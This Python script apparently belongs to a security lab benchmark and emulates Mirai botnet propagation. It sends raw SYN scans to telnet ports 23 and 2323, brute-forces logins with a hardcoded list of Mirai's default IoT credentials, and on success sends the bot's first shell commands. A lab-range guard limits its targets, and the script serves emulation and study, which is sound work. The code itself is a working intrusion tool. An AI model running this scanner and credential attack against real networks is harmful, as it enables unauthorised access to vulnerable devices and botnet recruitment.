"""Scan for telnet like Mirai: bare SYNs to random addresses, then logins where one answers.

Nine SYNs of ten go to port 23 and one to 2323, with the destination address as sequence number, as
the published source of Mirai does. `--connect` uses ordinary connections instead, as some of its
descendants do.
"""

from __future__ import annotations

import argparse
import errno
import random
import select
import socket
import struct
import time
from concurrent.futures import ThreadPoolExecutor
from ipaddress import IPv4Address, IPv4Network

from benchmarks.lab.tools.guard import require_lab
from benchmarks.lab.tools.telnet import Telnet, log_in

# A few pairs of Mirai's own list.
LOGINS = [("root", "xc3511"), ("root", "vizxv"), ("admin", "admin"), ("root", "888888"),
          ("root", "juantech"), ("support", "support"), ("root", "54321"), ("user", "user"),
          ("admin", "smcadmin"), ("root", "hi3518"), ("guest", "12345")]  # fmt: skip
SYN_ACK = 0x12
Target = tuple[str, int]


def checksum(data: bytes) -> int:
    """The internet checksum of an even number of bytes."""
    total: int = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return 0xFFFF - ((total + (total >> 16)) & 0xFFFF)


def syn(source: str, source_port: int, target: Target) -> bytes:
    """A TCP header with only SYN set."""
    ends = socket.inet_aton(source), socket.inet_aton(target[0])
    sequence = struct.unpack(">I", ends[1])[0]
    fields = [source_port, target[1], sequence, 0, 0x5002, random.randrange(1, 65536), 0, 0]
    pseudo = ends[0] + ends[1] + struct.pack(">HH", socket.IPPROTO_TCP, 20)
    fields[6] = checksum(pseudo + struct.pack(">HHIIHHHH", *fields))
    return struct.pack(">HHIIHHHH", *fields)


def probe_raw(targets: list[Target], own: str, rate: float) -> set[Target]:
    """Send one SYN to each target and collect those which accept."""
    handle = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    source_port = random.randrange(1024, 32768)
    found: set[Target] = set()
    for target in targets:
        try:
            handle.sendto(syn(own, source_port, target), (target[0], 0))
        except OSError:
            continue  # an unused neighbour address, known not to answer
        found |= answers(handle, source_port, 1 / rate * random.uniform(0.3, 1.7))
    return found | answers(handle, source_port, 1.5)


def answers(handle: socket.socket, source_port: int, seconds: float) -> set[Target]:
    """Targets which answered SYN+ACK to our port within the time."""
    found: set[Target] = set()
    end_s = time.monotonic() + seconds
    while (left_s := end_s - time.monotonic()) > 0:
        if not select.select((handle,), (), (), left_s)[0]:
            break
        packet, (address, _) = handle.recvfrom(2048)
        header = packet[(packet[0] & 15) * 4 :]
        from_port, to_port = struct.unpack(">HH", header[:4])
        if to_port == source_port and header[13] == SYN_ACK:
            found.add((address, from_port))
    return found


def probe_connect(targets: list[Target], rate: float) -> set[Target]:
    """Connect to each target, at most a second each, and collect those which accept."""
    waiting: dict[socket.socket, tuple[Target, float]] = {}
    found: set[Target] = set()

    def reap(now_s: float) -> None:
        for handle, (target, end_s) in list(waiting.items()):
            writable = select.select((), (handle,), (), 0)[1]
            if writable and handle.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                found.add(target)
            if writable or now_s > end_s:
                handle.close()
                del waiting[handle]

    for target in targets:
        handle = socket.socket()
        handle.setblocking(False)
        if handle.connect_ex(target) in (0, errno.EINPROGRESS):
            waiting[handle] = target, time.monotonic() + 1.3
        else:
            handle.close()
        time.sleep(1 / rate * random.uniform(0.3, 1.7))
        reap(time.monotonic())
    time.sleep(1.3)
    reap(float("inf"))
    return found


def break_in(target: Target) -> str:
    """Try a few logins; on success do what the bot does first."""
    try:
        client = Telnet(*target, 4.0)
    except OSError:
        return "unreachable"
    try:
        if log_in(client, random.sample(LOGINS, 2)) is None:
            return "failed"
        for line in ("enable", "system", "shell", "sh", "/bin/busybox ECCHI"):
            client.say(line)
            time.sleep(0.3)
    except OSError:
        return "closed"
    else:
        return "found"
    finally:
        client.close()


def main() -> None:
    """Scan the networks named on the command line."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("networks", nargs="+", type=IPv4Network)
    parser.add_argument("--own", required=True, help="this host's address, never a target")
    parser.add_argument("--count", type=int, required=True, help="addresses probed")
    parser.add_argument("--rate", type=float, default=60.0, help="probes a second")
    parser.add_argument("--tries", type=int, default=3, help="connections to each open port")
    parser.add_argument("--connect", action="store_true")
    options = parser.parse_args()
    require_lab([*options.networks, IPv4Address(options.own)])
    targets: list[Target] = []
    while len(targets) < options.count:
        network = random.choice(options.networks)
        address = str(network[random.randrange(1, network.num_addresses - 1)])
        if address != options.own:
            targets.append((address, 2323 if random.random() < 0.1 else 23))
    if options.connect:
        found = probe_connect(targets, options.rate)
    else:
        found = probe_raw(targets, options.own, options.rate)
    with ThreadPoolExecutor(max(1, len(found))) as pool:
        ends = list(pool.map(break_in, sorted(found) * options.tries))
    print(f"{len(targets)} probed, {len(found)} open, logins {ends}")


if __name__ == "__main__":
    main()
